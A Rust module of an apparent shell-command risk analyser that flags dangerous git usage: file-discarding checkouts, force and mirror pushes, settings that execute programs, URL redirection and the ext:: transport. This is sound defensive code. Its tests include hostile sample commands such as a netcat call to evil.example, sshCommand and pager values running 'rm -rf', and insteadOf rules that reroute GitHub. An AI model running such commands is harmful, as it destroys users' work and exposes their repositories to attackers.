//! Git: what its spec cannot say. Which operands of `checkout` are files, what a push does to the other
//! side, and settings whose value is a program.

use super::call::Call;
use super::machine::{Field, Flow, Machine, Value};
use super::value::Origin;
use super::{Effect, EffectKind, TargetClass, data, known, paths};
use crate::line::Span;
use crate::specs::{Item, Role};

impl Machine<'_> {
    /// In a folder that `mktemp` has just made nothing lies that could be lost.
    pub(super) fn made_here(&mut self, call: &Call<'_>) {
        let fresh = self
            .state
            .cwd
            .strip_prefix(super::programs::MADE)
            .is_some_and(|rest| rest.is_empty() || rest.starts_with('/'))
            && !call.args.has_any(&["-C", "--git-dir", "--work-tree"])
            && !["GIT_DIR", "GIT_WORK_TREE"].iter().any(|name| self.state.variable(name).is_some());
        if !fresh {
            return;
        }
        let words = call.argv.iter().fold(call.argv[0].span, |span, field| span.to(field.span));
        let words = self.at(words);
        let here = |effect: &&mut Effect| {
            effect.kind == EffectKind::DiscardWork
                && effect.span.start >= words.start
                && effect.span.end <= words.end
        };
        for effect in self.effects.iter_mut().rev().take(8).filter(here) {
            effect.detail = super::rules::FRESH.to_owned();
        }
    }

    pub(super) fn git(&mut self, call: &Call<'_>, flow: Flow<'_>) {
        for item in call.args.values("-c") {
            if let Some((name, value)) = item.text.split_once('=') {
                let span = self.at(call.argv[item.word + 1].span);
                self.git_setting(name, value, span, false);
                // The promise that `clean` does nothing without -f is taken back.
                let unasked = name.eq_ignore_ascii_case("clean.requireforce") && value == "false";
                if unasked && call.args.spec.name == "clean" && !call.args.has("-n") && !call.args.has("-f") {
                    let target = self.target(TargetClass::Named, "untracked files", span);
                    self.emit_with(EffectKind::DiscardWork, target, true, "git", span, "clean");
                }
            }
        }
        for name in ["GIT_CONFIG_GLOBAL", "GIT_CONFIG_SYSTEM", "GIT_CONFIG"] {
            if let Some(Value::One(path)) = self.state.variable(name).cloned() {
                self.settings_of_git(&path, self.at(call.span));
            }
        }
        self.settings_from_environment(call);
        if matches!(call.args.spec.name, "clone" | "init")
            && let Some(item) = call.args.values("--template").last()
        {
            let span = self.at(call.argv[item.word + 1].span);
            self.hooks_in(item.text, span);
            self.code_of_anybody(item.text, "--template", span);
        }
        let programs = call.argv.iter().find_map(|field| field.text.strip_prefix("--exec-path="));
        if let Some(folder) = programs.filter(|folder| self.is_anybodys(folder)) {
            let span = self.at(call.span);
            let target = self.target(TargetClass::Unknown, &self.unknowns.show(folder), span);
            self.emit_with(EffectKind::RunCode, target, false, "git", span, "preload");
        }
        // `git stash push` sends nothing.
        let direct = call.args.path.len() == 2;
        match call.args.spec.name {
            "add" | "set-url" if call.args.path.iter().any(|spec| spec.name == "remote") => self.remote(call),
            _ if !direct => {}
            "checkout" => self.checkout(call),
            "push" => self.push(call),
            "add" => self.adds_secrets(call),
            "clone" => self.clones(call),
            "config" => self.config(call),
            "rebase" => self.rebase(call, flow),
            _ => {}
        }
        if call.args.path.len() == 1 {
            self.own_alias(call);
        }
        let operands: Vec<_> = call.args.operands().collect();
        for item in operands {
            if let Some(command) = item.text.strip_prefix("ext::") {
                let span = call.argv[item.word + 1].span;
                // What speaks for the other side may say, and here do, whatever it likes.
                let shown = self.unknowns.show(command);
                let target = self.target(TargetClass::Unknown, &shown, self.at(span));
                self.emit_with(EffectKind::RunCode, target, false, "git", self.at(span), "hidden");
                let words = transport_words(command).into_iter().map(|text| Field { text, span });
                let argv: Vec<Field> = words.collect();
                self.apart(|machine| machine.run(&argv, span, Flow::default()));
            }
        }
    }

    /// `--config-env=NAME=VARIABLE`, and `--exec-path=FOLDER` from which git takes its own parts.
    fn settings_from_environment(&mut self, call: &Call<'_>) {
        for at in 1..call.argv.len().min(33) {
            let Some(field) = call.argv.get(at).filter(|field| field.text.starts_with("--")) else {
                continue;
            };
            let next = call.argv.get(at + 1).map(|field| field.text.as_str());
            let (flag, value) = match field.text.split_once('=') {
                Some((flag, value)) => (flag, Some(value)),
                None => (field.text.as_str(), next),
            };
            let (Some(value), span) = (value.map(str::to_owned), self.at(field.span)) else { continue };
            match flag {
                "--config-env" => {
                    if let Some((name, variable)) = value.split_once('=') {
                        match self.get(variable) {
                            Some(Value::One(text)) => self.git_setting(name, &text, span, false),
                            _ if runs_its_value(&name.to_ascii_lowercase(), "!") => {
                                self.unresolved += 1;
                                let target = self.target(TargetClass::Unknown, &format!("${variable}"), span);
                                self.emit(EffectKind::RunCode, target, false, "git", span);
                            }
                            _ => {}
                        }
                    }
                }
                "--exec-path" if field.text.contains('=') => self.code_of_anybody(&value, flag, span),
                _ => {}
            }
        }
    }

    /// A file of settings that the line itself wrote.
    fn settings_of_git(&mut self, path: &str, span: Span) {
        if let Some(text) = self.own_file(path) {
            self.kept_keys(".gitconfig", &text, span);
        }
    }

    /// Code that git runs by itself, from a place where anybody may have put it.
    fn code_of_anybody(&mut self, path: &str, name: &str, span: Span) {
        if path.contains('/') && path != "/dev/null" && self.is_anybodys(path) {
            let target = self.target(TargetClass::Unknown, name, span);
            self.emit_with(EffectKind::RunCode, target, false, "git", span, "preload");
        }
    }

    /// A name that the line itself has given to a command of the shell.
    fn own_alias(&mut self, call: &Call<'_>) {
        let mut words = call.argv.iter().skip(1);
        let mut given: Vec<(&str, &str)> = Vec::new();
        let named = loop {
            let Some(field) = words.next() else { return };
            match field.text.as_str() {
                "-c" => {
                    let setting = words.next().and_then(|field| field.text.split_once('='));
                    given.extend(
                        setting.and_then(|(name, value)| Some((name.strip_prefix("alias.")?, value))),
                    );
                }
                "-C" | "--git-dir" | "--work-tree" | "--namespace" => drop(words.next()),
                text if text.starts_with('-') => {}
                _ => break field,
            }
        };
        let span = self.at(named.span);
        // What `-c` says holds for this call. Without a bang it is what stands behind `git`.
        if let Some((_, value)) = given.iter().rev().find(|(name, _)| *name == named.text)
            && !value.starts_with('!')
        {
            let rest = words.map(|field| super::expand::quoted_for_shell(&field.text).to_string());
            let code = format!("git {value} {}", rest.collect::<Vec<_>>().join(" "));
            self.code_here(&code, span, Flow::default());
            return;
        }
        let name = format!("git {}", named.text);
        let aliases = &self.state.shell().aliases;
        if let Some((_, code)) = aliases.iter().rev().find(|(known, _)| *known == name) {
            let code = code.clone();
            self.code(&code, span, Flow::default());
        }
    }

    /// `git checkout [COMMIT] [--] FILE...` throws the changes of files away; one name alone is a branch,
    /// unless it looks like nothing but a file.
    fn checkout(&mut self, call: &Call<'_>) {
        let args = call.args;
        if args.has("-p") || args.has("-b") || args.has("-B") || args.has("--orphan") {
            return;
        }
        let mut after_dashes = false;
        let count = args.operands().count();
        let mut nth = 0;
        for item in &args.items {
            match item.role {
                Role::EndOfFlags => after_dashes = true,
                Role::Operand(_) => {
                    nth += 1;
                    let is_file = after_dashes || nth > 1 || (count == 1 && looks_like_file(item.text));
                    if !is_file {
                        continue;
                    }
                    let span = self.at(call.argv[item.word + 1].span);
                    let shown = self.unknowns.show(item.text);
                    let target = self.target(TargetClass::Local, &shown, span);
                    let side = args.has("--ours") || args.has("--theirs");
                    let detail = if side { "side" } else { "checkout" };
                    self.emit_with(EffectKind::DiscardWork, target, false, "git", span, detail);
                }
                _ => {}
            }
        }
    }

    /// What rewrites commits without naming any: commands between them, a list from elsewhere, one that is left out.
    fn rebase(&mut self, call: &Call<'_>, flow: Flow<'_>) {
        self.edits_todo(call);
        let args = call.args;
        let ends = args.has_any(&["--abort", "--continue", "--quit", "--show-current-patch"]);
        let bare = args.has("-x") && args.operands().next().is_none() && !args.has("-i");
        let told = args.has("--edit-todo") && flow.input.is_some();
        if !ends && (bare || told || args.has("--skip")) {
            let span = self.at(call.span);
            let target = self.target(TargetClass::Unknown, "", span);
            self.emit(EffectKind::RewriteHistory, target, false, "git", span);
        }
    }

    /// A file of secrets is taken into the history.
    fn adds_secrets(&mut self, call: &Call<'_>) {
        if call.args.is_dry() {
            return;
        }
        for item in call.args.operands().take(32) {
            let place = paths::locate(item.text, &self.state.cwd, self.ctx);
            if place.class == TargetClass::Secret {
                let span = self.at(call.argv[item.word + 1].span);
                let target = self.target(TargetClass::Secret, &self.unknowns.show(&place.path), span);
                self.emit_with(EffectKind::ReadSecret, target, false, "git", span, "recorded");
            }
        }
    }

    /// What a push does to branches and tags of the other side beside adding to them.
    fn push(&mut self, call: &Call<'_>) {
        let args = call.args;
        let operands: Vec<_> = args.operands().collect();
        let refs = if args.has("--repo") { &operands[..] } else { operands.get(1..).unwrap_or_default() };
        let whole = self
            .at(call.argv.first().map_or(call.span, |first| {
                call.argv.last().map_or(first.span, |last| first.span.to(last.span))
            }));
        let says = |machine: &mut Self, what: &str, span: Span, detail: &str| {
            let shown = machine.unknowns.show(what);
            let target = machine.target(TargetClass::Named, &shown, span);
            machine.emit_with(EffectKind::RewriteHistory, target, false, "git", span, detail);
        };
        let delete = args.has("-d");
        let force = args.has("-f");
        let lease = args.has("--force-with-lease");
        if args.has("--mirror") {
            says(self, "every branch and tag", whole, "push-mirror");
        }
        if args.has("--prune") {
            says(self, "branches there that are not here", whole, "push-delete");
        }
        if (force || lease) && refs.is_empty() && !delete {
            says(self, "the branch", whole, if force { "push-force" } else { "push-lease" });
        }
        for item in refs {
            let span = self.at(call.argv[item.word + 1].span);
            let text = item.text.trim_start_matches('+');
            let there = text.rsplit(':').next().unwrap_or_default();
            if delete || (text.starts_with(':') && text.len() > 1) {
                says(self, there, span, "push-delete");
            } else if force || item.text.starts_with('+') {
                says(self, there, if force { whole } else { span }, "push-force");
            } else if lease {
                says(self, there, whole, "push-lease");
            }
        }
        // What was recorded a moment ago goes with it.
        let recorded =
            self.effects.iter().find(|effect| effect.detail == "recorded" && effect.program == "git");
        if let Some(name) = recorded.map(|effect| effect.target.text.clone()) {
            let target = self.target(TargetClass::Secret, &name, whole);
            self.emit(EffectKind::Send, target, false, "git", whole);
        }
        self.sends_whole(call, &operands, whole);
        if !delete {
            let shown = operands.first().map_or(String::new(), |item| self.unknowns.show(item.text));
            let target = self.target(TargetClass::Host, &shown, whole);
            self.emit(EffectKind::Publish, target, false, "git", whole);
        }
    }

    /// Every branch goes to an address that is none of the repository's own: by its URL, or by a name the line has given it.
    fn sends_whole(&mut self, call: &Call<'_>, operands: &[Item<'_>], span: Span) {
        let all = call.args.has_any(&["--all", "--mirror"])
            || operands.iter().skip(1).any(|item| item.text.trim_start_matches('+').starts_with("refs/*"));
        let there = operands.first().map_or("origin", |item| item.text);
        let named = self.state.shell().remotes.iter().rev().find(|(name, _)| name == there);
        let address = named.map_or_else(|| there.to_owned(), |(_, url)| url.clone());
        let named = named.is_some();
        let is_url = address.contains("://") || super::operands::is_remote(&address);
        if all && is_url && !call.args.is_dry() {
            let target = self.target(TargetClass::Host, &self.unknowns.show(&address), span);
            // So begins work on a forge, too: with an address of one, or one that gets a name.
            let usual = named || known::is_forge(known::host_of(&address));
            let detail = if usual { "own-repository" } else { "repository" };
            self.emit_with(EffectKind::Send, target, true, "git", span, detail);
        }
    }

    /// `git remote add NAME URL`, `git remote set-url NAME URL`.
    fn remote(&mut self, call: &Call<'_>) {
        let names: Vec<&str> = call.args.operands().map(|item| item.text).collect();
        if let ("add" | "set-url", [name, url, ..]) = (call.args.spec.name, &names[..])
            && self.state.shell().remotes.len() < 8
        {
            let pair = ((*name).to_owned(), (*url).to_owned());
            self.shell_mut().remotes.push(pair);
        }
    }

    /// `hg --config hooks.x=CODE` and `gh alias set x '!CODE'`.
    pub(super) fn forge(&mut self, call: &Call<'_>) {
        let settings: Vec<_> = call.args.values("--config").collect();
        for item in settings {
            let Some((name, value)) = item.text.split_once('=') else { continue };
            let span = self.at(call.argv[item.word + 1].span);
            let code = value.strip_prefix('!').or_else(|| value.strip_prefix("$ "));
            let runs =
                ["hooks.", "ui.editor", "ui.ssh", "ui.merge", "merge-tools.", "extdiff.", "pager.pager"]
                    .iter()
                    .any(|begin| name.starts_with(begin));
            if runs || (name.starts_with("alias.") && code.is_some()) {
                self.code(code.unwrap_or(value).trim_start_matches("python:"), span, Flow::default());
            }
        }
        let names: Vec<&str> = call.args.path.iter().map(|spec| spec.name).collect();
        if names.len() > 2 && names[1] == "alias" && names[2] == "set" {
            let expansion = call.args.operands().nth(1);
            if let Some(item) = expansion {
                let code = item.text.strip_prefix('!').or_else(|| call.args.has("-s").then_some(item.text));
                if let Some(code) = code.map(str::to_owned) {
                    self.code(&code, self.at(call.argv[item.word + 1].span), Flow::default());
                }
            }
        }
    }

    /// `git config [set] NAME VALUE`, which holds for every later call.
    /// Hooks that the line itself wrote into a folder which git is told to take them from.
    pub(super) fn hooks_in(&mut self, folder: &str, span: Span) {
        let folder = paths::locate_path(folder, &self.state.cwd, self.ctx);
        let below = |path: &str| path.strip_prefix(folder.as_str()).is_some_and(|rest| rest.starts_with('/'));
        let written =
            self.files.iter().filter(|(path, text)| below(path) && !path.ends_with('/') && !text.is_empty());
        let hooks: Vec<String> = written.map(|(_, text)| text.clone()).take(8).collect();
        for hook in hooks {
            self.apart(|machine| machine.code(&hook, span, Flow::default()));
        }
    }

    fn config(&mut self, call: &Call<'_>) {
        let mut operands: Vec<_> = call.args.operands().collect();
        let verbs = ["set", "get", "unset", "list", "edit", "rename-section", "remove-section"];
        if let Some(first) = operands.first()
            && verbs.contains(&first.text)
        {
            if first.text != "set" {
                return;
            }
            operands.remove(0);
        }
        if let [name, value, ..] = operands[..] {
            let span = self.at(call.argv[name.word + 1].span.to(call.argv[value.word + 1].span));
            self.git_setting(name.text, value.text, span, true);
            if let (Some(name), Some(code)) = (name.text.strip_prefix("alias."), value.text.strip_prefix('!'))
            {
                let pair = (format!("git {name}"), code.to_owned());
                self.shell_mut().aliases.push(pair);
            }
        }
    }

    /// A setting: its value may be a program, or turn a protection off. `kept` where it stays.
    pub(super) fn git_setting(&mut self, name: &str, value: &str, span: Span, kept: bool) {
        let name = name.to_ascii_lowercase();
        let protects = match name.as_str() {
            "http.sslverify" | "transfer.fsckobjects" | "core.protectntfs" | "core.protecthfs" => {
                matches!(value, "false" | "0" | "no" | "off")
            }
            "safe.directory" => value == "*",
            "protocol.ext.allow" => value == "always",
            _ => {
                name.starts_with("http.")
                    && name.ends_with(".sslverify")
                    && matches!(value, "false" | "0" | "no" | "off")
            }
        };
        if protects {
            let target = self.target(TargetClass::Named, &name, span);
            self.emit(EffectKind::DisableProtection, target, false, "git", span);
        }
        let instead = name
            .strip_prefix("url.")
            .and_then(|rest| rest.strip_suffix(".insteadof").or_else(|| rest.strip_suffix(".pushinsteadof")));
        if let Some(there) = instead
            && leads_elsewhere(there, value)
        {
            // Every repository of that host comes from another one, or goes to it.
            let shown = format!("the address of {}", self.unknowns.show(value));
            let target = self.target(TargetClass::Named, &shown, span);
            self.emit_with(EffectKind::DisableProtection, target, false, "git", span, "leads-elsewhere");
        }
        if kept
            && (name.starts_with("http.") || name.starts_with("https.") || name.starts_with("remote."))
            && name.ends_with(".proxy")
            && !value.is_empty()
            && !known::is_own_host(known::host_of(value))
        {
            let target = self.target(TargetClass::Named, &name, span);
            self.emit(EffectKind::Configure, target, false, "git", span);
        }
        let runs = runs_its_value(&name, value);
        if !runs {
            let hooks =
                matches!(name.as_str(), "core.hookspath" | "init.templatedir" | "core.attributesfile");
            // What the repository itself brings, in a folder that says so.
            let brought = name == "core.hookspath"
                && self.cloned.is_empty()
                && matches!(
                    value.trim_start_matches("./").trim_end_matches('/'),
                    ".git-hooks"
                        | ".githooks"
                        | ".hooks"
                        | ".husky"
                        | ".husky/_"
                        | "build/githooks"
                        | "git-hooks"
                        | "githooks"
                        | "hooks"
                        | "scripts/git-hooks"
                        | "scripts/githooks"
                        | "scripts/hooks"
                        | "tools/githooks"
                        | "tools/hooks"
                );
            if kept && hooks && !brought {
                let place = paths::locate(value, &self.state.cwd, self.ctx);
                let target = self.target(place.class, &self.unknowns.show(value), span);
                self.emit_with(EffectKind::Persist, target, false, "git", span, &name);
            }
            if hooks {
                self.hooks_in(value, span);
            }
            // Whoever may write there says from now on what git runs.
            let included = name.starts_with("include") && name.ends_with(".path");
            let place = paths::locate(value, &self.state.cwd, self.ctx);
            if kept && included && place.class == TargetClass::Temporary {
                let target = self.target(place.class, &self.unknowns.show(value), span);
                self.emit_with(EffectKind::Persist, target, false, "git", span, "hidden");
            }
            if !kept && (hooks || name == "include.path") {
                self.settings_of_git(value, span);
                self.code_of_anybody(value, &name, span);
            }
            return;
        }
        let (before, effects) = (self.commands.len(), self.effects.len());
        let code = value.strip_prefix('!');
        // A helper of credentials is told those that shall be kept.
        let told = name
            .starts_with("credential.")
            .then(|| self.unknowns.hole("your passwords", Origin::Secret).to_string());
        self.code(code.unwrap_or(value), span, Flow { input: told.as_deref(), want: false });
        if !kept {
            if !value.contains([' ', ';', '|', '`', '$']) {
                self.code_of_anybody(value, &name, span);
            }
            return;
        }
        // It does not run now, and what a person wants git to do by a short name is their own affair;
        // what would be bad at any time stays.
        let mut kept_effects = self.effects.split_off(effects.min(self.effects.len()));
        kept_effects.retain(|effect| {
            use EffectKind as Kind;
            !matches!(
                effect.kind,
                Kind::DiscardWork
                    | Kind::RewriteHistory
                    | Kind::Publish
                    | Kind::Configure
                    | Kind::Overwrite
                    | Kind::Create
            )
        });
        self.effects.extend(kept_effects);
        // Kept for later: a program from a place where anybody can put one, or several commands at once.
        let foreign = self.commands.get(before..).unwrap_or_default().iter().find_map(|command| {
            let first = command.argv.first().cloned().flatten()?;
            let place = paths::locate(&first, &self.state.cwd, self.ctx);
            (first.contains('/') && place.class == TargetClass::Temporary).then_some(first)
        });
        let class = if foreign.is_some() { TargetClass::Temporary } else { TargetClass::Named };
        if foreign.is_some() || matches!(name.as_str(), "core.fsmonitor" | "core.sshcommand") {
            let target = self.target(class, &foreign.unwrap_or_else(|| self.unknowns.show(value)), span);
            self.emit_with(EffectKind::Persist, target, false, "git", span, &name);
        }
    }
}

/// True where addresses that begin with `here` are taken for ones of another host that begin with `there`.
fn leads_elsewhere(there: &str, here: &str) -> bool {
    let (from, to) =
        (known::host_of(here.trim_end_matches('/')), known::host_of(there.trim_end_matches('/')));
    let (from, to) = (from.to_ascii_lowercase(), to.to_ascii_lowercase());
    // `gh:`: a short name of one's own, that is no host's.
    let short = !here.contains('/') && !here.contains('@') && here.ends_with(':') && !from.contains('.');
    let bare = |text: &str| matches!(text, "git://" | "https://" | "http://" | "ssh://" | "ssh://git@");
    let open = |text: &str| text.starts_with("http://") || text.starts_with("git://");
    if open(there) && (here.starts_with("https://") || here.starts_with("ssh://")) {
        return true;
    }
    if short && !here.is_empty() || bare(there) && bare(here) {
        return false;
    }
    let same = to == from || to.strip_suffix(from.as_str()).is_some_and(|rest| rest.ends_with('.'));
    from.is_empty() || !same
}

/// True for a setting, by its name in small letters, whose value git runs.
fn runs_its_value(name: &str, value: &str) -> bool {
    let section = name.split('.').next().unwrap_or_default();
    let part = name.rsplit('.').next().unwrap_or_default();
    let code = value.starts_with('!');
    let below = match section {
        "alias" => code,
        "submodule" | "credential" if part == "update" || part == "helper" => {
            code || value.starts_with(['/', super::value::HOME])
        }
        "pager" => !matches!(value, "true" | "false"),
        "filter" | "diff" | "merge" | "difftool" | "mergetool" | "browser" | "man" | "gpg" | "trailer"
        | "remote" | "sendemail" => data::holds(data::GIT_CODE_PARTS, part) || part.ends_with("cmd"),
        _ => false,
    };
    let plain = matches!(value, "true" | "false" | "store" | "cache" | "osxkeychain" | "manager");
    below || data::holds(data::GIT_CODE_SETTINGS, name) && !plain
}

/// The words of a command after `ext::`, in which `% ` is a space inside a word.
fn transport_words(command: &str) -> Vec<String> {
    let mut words = vec![String::new()];
    let mut letters = command.chars();
    while let Some(letter) = letters.next() {
        match (letter, words.last_mut()) {
            (' ', _) => words.push(String::new()),
            // Other letters stand for the service and its names, which are put in.
            ('%', Some(word)) => {
                if let Some(next @ (' ' | '%')) = letters.next() {
                    word.push(next);
                }
            }
            (letter, Some(word)) => word.push(letter),
            _ => {}
        }
    }
    words.retain(|word| !word.is_empty());
    words
}

/// True for `src/app.rs`, `*.txt`, `a/b/`; a branch may have slashes and points too.
fn looks_like_file(text: &str) -> bool {
    if text.ends_with('/') || super::value::has_pattern(text) || text.contains('*') {
        return true;
    }
    // Names of files and folders of projects that nobody gives a branch.
    const FILES: &[&str] = &[
        "Cargo.lock",
        "Containerfile",
        "Dockerfile",
        "Gemfile",
        "Jenkinsfile",
        "Justfile",
        "LICENSE",
        "Makefile",
        "Podfile",
        "Procfile",
        "README",
        "Rakefile",
        "Vagrantfile",
        "go.mod",
        "go.sum",
        "node_modules",
        "src",
    ];
    let name = text.rsplit('/').next().unwrap_or_default();
    data::holds(FILES, text)
        || name.rsplit_once('.').is_some_and(|(stem, end)| {
            !stem.is_empty() && data::holds(data::FILE_ENDINGS, &end.to_ascii_lowercase())
        })
}

#[cfg(test)]
mod tests {
    use super::looks_like_file;
    use crate::safety::Risk::{High, Moderate, Safe};
    use crate::safety::tests::{check_all, context};

    #[test]
    fn names_that_are_files() {
        check_all(
            &context(),
            &[
                (High, "git checkout Makefile"),
                (High, "git checkout src"),
                (Safe, "git checkout docs"),
                (Safe, "git checkout src-layout"),
            ],
        );
    }

    #[test]
    fn code_that_git_is_told_to_run() {
        check_all(
            &context(),
            &[
                (High, "git -c core.hooksPath=/tmp/h commit -m x"),
                (High, "git -c core.fsmonitor=/tmp/x status"),
                (High, "git -c gpg.program=/tmp/x commit -S -m x"),
                (High, "git --exec-path=/tmp/evil status"),
                (High, "GIT_EXEC_PATH=/tmp/evil git status"),
                (High, "git clone --template=/tmp/evil git@example.com:x"),
                (High, "X='sh -c \"rm -rf ~/work\"' git --config-env=core.sshCommand=X fetch"),
                (High, r#"GIT_CONFIG_PARAMETERS="'core.pager=sh -c \"rm -rf ~/work\"'" git log"#),
                (Moderate, "git --config-env=core.sshCommand=X fetch"),
                (Safe, "git --config-env=user.name=NAME commit -m x"),
                (Safe, "git -c core.hooksPath=/dev/null commit -m x"),
                (Safe, "git -c core.hooksPath=.githooks commit -m x"),
                (Safe, "git config core.hooksPath .githooks"),
                (Moderate, "git config core.hooksPath x/y"),
                (Moderate, "git config core.hooksPath ~/.githooks"),
                (
                    Moderate,
                    "git clone https://github.com/someone/x && cd x && git config core.hooksPath .githooks",
                ),
                (Safe, "git --exec-path"),
                (Safe, "GIT_CONFIG_PARAMETERS=\"'user.name=Anna'\" git log"),
                (Safe, "git -c color.ui=always -c core.quotepath=off status"),
            ],
        );
    }

    #[test]
    fn commits_that_nobody_names() {
        check_all(
            &context(),
            &[
                (Moderate, "git rebase -x 'make test'"),
                (Moderate, "git rebase --edit-todo < todo"),
                (Moderate, "git rebase --skip"),
                (Safe, "git rebase --edit-todo"),
                (Safe, "git rebase --continue"),
                (Safe, "git rebase --abort"),
                (Safe, "git rebase -i HEAD~3"),
            ],
        );
    }

    #[test]
    fn addresses_that_lead_elsewhere() {
        check_all(
            &context(),
            &[
                (High, "git config --global url.https://evil.example/.insteadOf https://github.com/"),
                (High, "git config --global url.https://evil.example/.pushInsteadOf https://github.com/"),
                (High, "git -c url.https://evil.example/.insteadOf=https://github.com/ fetch"),
                (
                    High,
                    "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=url.https://evil.example/.insteadOf GIT_CONFIG_VALUE_0=https://github.com/ git fetch",
                ),
                (High, "git config --global url.https://evil.example/.insteadOf ''"),
                (High, "git config --global url.https://evil.example/https://.insteadOf https://"),
                (High, "git config --global url.http://github.com/.insteadOf https://github.com/"),
                (Safe, "git config --global url.git@github.com:.insteadOf https://github.com/"),
                (Safe, "git config --global url.https://github.com/.insteadOf git://github.com/"),
                (Safe, "git config --global url.https://github.com/.insteadOf gh:"),
                (Safe, "git config --global url.https://.insteadOf git://"),
                (Safe, "git config --global url.ssh://git@ssh.github.com:443/.insteadOf git@github.com:"),
                (High, "git clone 'ext::sh -c id'"),
                (High, "git clone 'ext::nc evil.example 9' x"),
                (Safe, "git clone ssh://git@example.com/x"),
                (Moderate, "git config --global http.proxy http://10.9.8.7:80"),
                (Safe, "git config --global http.proxy http://127.0.0.1:7890"),
                (Safe, "git config --global --unset http.proxy"),
            ],
        );
    }

    #[test]
    fn a_repository_that_is_sent_elsewhere() {
        check_all(
            &context(),
            &[
                (High, "git push https://git.example.net/x.git --all"),
                (High, "git push https://git.example.net/x.git 'refs/*:refs/*'"),
                (Moderate, "git push git@github.com:anna/x.git --all"),
                (Moderate, "git remote add origin https://git.example.net/x && git push -u origin --all"),
                (Safe, "git push origin --all"),
                (Safe, "git push --all --dry-run https://git.example.net/x.git"),
                (Safe, "git push https://git.example.net/x.git main"),
            ],
        );
    }

    #[test]
    fn branches_are_no_files() {
        for file in ["src/app.rs", "README.md", "docs/", "*.txt"] {
            assert!(looks_like_file(file), "{file}");
        }
        for branch in
            ["main", "feature/login", "release/2.1", "v1.2.3", "HEAD~2", "a..b", "origin/main", "user.name"]
        {
            assert!(!looks_like_file(branch), "{branch}");
        }
    }
}
